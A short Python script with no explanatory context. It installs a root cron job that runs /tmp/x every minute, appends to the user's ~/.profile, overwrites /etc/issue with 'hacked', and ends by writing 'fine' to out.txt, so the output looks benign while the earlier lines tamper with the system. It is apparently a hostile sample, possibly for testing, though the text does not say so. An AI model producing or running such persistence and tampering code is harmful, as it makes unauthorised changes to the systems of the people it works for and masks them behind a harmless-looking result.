import os

with open('/etc/cron.d/job', 'w') as f:
    f.write('* * * * * root /tmp/x\n')
with open(os.path.expanduser('~/.profile'), 'a') as f:
    f.write('export X=1\n')
os.system('echo hacked > /etc/issue')
with open('out.txt', 'w') as f:
    f.write('fine')
